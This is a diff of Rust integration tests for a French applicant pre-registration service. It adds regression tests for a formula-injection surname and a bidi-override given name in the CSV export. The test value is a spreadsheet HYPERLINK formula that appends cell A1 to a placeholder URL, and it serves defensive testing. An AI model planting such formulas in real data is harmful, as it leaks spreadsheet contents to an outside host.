@@ -69,8 +69,17 @@ async fn app() -> App {
 
 impl App {
     async fn candidat(&self, voie: &str, email: &str) -> (String, String) {
+        self.candidat_nomme(voie, email, "Durand", "Camille").await
+    }
+    async fn candidat_nomme(
+        &self,
+        voie: &str,
+        email: &str,
+        nom: &str,
+        prenom: &str,
+    ) -> (String, String) {
         self.h.regler(t("2025-04-01T10:00:00+02:00"));
-        let r: Value = self.c.post(format!("{}/preinscriptions", self.base)).json(&json!({"voie": voie, "nom": "Durand", "prenom": "Camille", "email": email, "mot_de_passe": MDP})).send().await.unwrap().json().await.unwrap();
+        let r: Value = self.c.post(format!("{}/preinscriptions", self.base)).json(&json!({"voie": voie, "nom": nom, "prenom": prenom, "email": email, "mot_de_passe": MDP})).send().await.unwrap().json().await.unwrap();
         let n = r["numero"].as_str().unwrap().to_owned();
         let j = self.connexion(&n).await;
         (n, j)
@@ -335,7 +344,12 @@ async fn differees_forclos_et_export() {
     let a = app().await;
     let (interne, ji) = a.candidat("interne", "i@exemple.fr").await;
     a.deposer(&ji, "piece-identite").await;
-    let (forclos, jf) = a.candidat("externe", "f@exemple.fr").await;
+    // A name a spreadsheet would run as a formula, a given name with a bidi override
+    // (findings 5 and 6 of the outside test).
+    let formule = "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"Cliquez ici\")";
+    let (forclos, jf) = a
+        .candidat_nomme("externe", "f@exemple.fr", formule, "Cam\u{202E}ille")
+        .await;
     a.deposer(&jf, "piece-identite").await;
     a.h.regler(t("2025-04-17T23:00:00+02:00"));
     let ji = a.connexion(&interne).await;
@@ -406,6 +420,11 @@ async fn differees_forclos_et_export() {
             .find(|l| l.get(0) == Some(n.as_str()))
             .unwrap();
         assert_eq!(ligne.get(4), d["dossier"]["etat"].as_str());
+        if n == &forclos {
+            assert_eq!(ligne.get(1), Some(format!("'{formule}").as_str()));
+            assert_eq!(ligne.get(2), Some("Camille"));
+            assert_eq!(d["identite"]["prenom"], "Camille");
+        }
         for p in d["dossier"]["pieces"].as_array().unwrap() {
             for (i, f) in p["fichiers"].as_array().unwrap().iter().enumerate() {
                 let mut contenu = Vec::new();
